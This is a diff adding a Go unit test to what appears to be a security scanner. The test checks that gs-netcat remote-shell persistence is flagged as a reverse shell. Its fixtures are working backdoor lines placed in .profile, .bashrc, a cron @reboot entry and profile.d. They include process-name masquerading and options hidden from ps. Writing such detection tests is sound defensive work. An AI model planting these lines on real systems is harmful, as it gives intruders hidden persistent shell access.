@@ -33,3 +33,23 @@ func TestSocketActivatedShell(t *testing.T) {
 		}
 	}
 }
+
+// TestGsNetcatOptions: gs-netcat serving a shell is found with its options grouped (-liqD) and
+// when they come from GSOCKET_ARGS in its environment (how its installer's one-liners keep them
+// out of ps), in a login script and a cron job; a gs-netcat relaying a port stays silent.
+func TestGsNetcatOptions(t *testing.T) {
+	for p, text := range map[string]string{
+		"/home/u/.profile":    "killall -0 gs-netcat 2>/dev/null || (GSOCKET_ARGS=\"-s Sec4et -liqD\" SHELL=/bin/bash exec -a -bash gs-netcat)\n",
+		"/root/.bashrc":       "export GSOCKET_ARGS='-k /root/.gs.key -lqi'\n(gs-netcat -D &)\n",
+		"/etc/cron.d/gs":      "@reboot root gs-netcat -s Sec4et -liD\n",
+		"/etc/profile.d/x.sh": "gs-netcat -qs Sec4et -l -e /bin/sh &\n",
+	} {
+		fs := scanFile(p, text)
+		if len(fs) == 0 || fs[0].Rule != RuleNetExec && !fs[0].Is(audit.CategoryReverseShell) {
+			t.Errorf("%s: %v", p, fs)
+		}
+	}
+	if fs := scanFile("/root/.bashrc", "gs-netcat -s Sec4et -l -d 127.0.0.1 -p 5432 &\n"); len(fs) > 0 {
+		t.Errorf("port relay: %v", fs)
+	}
+}
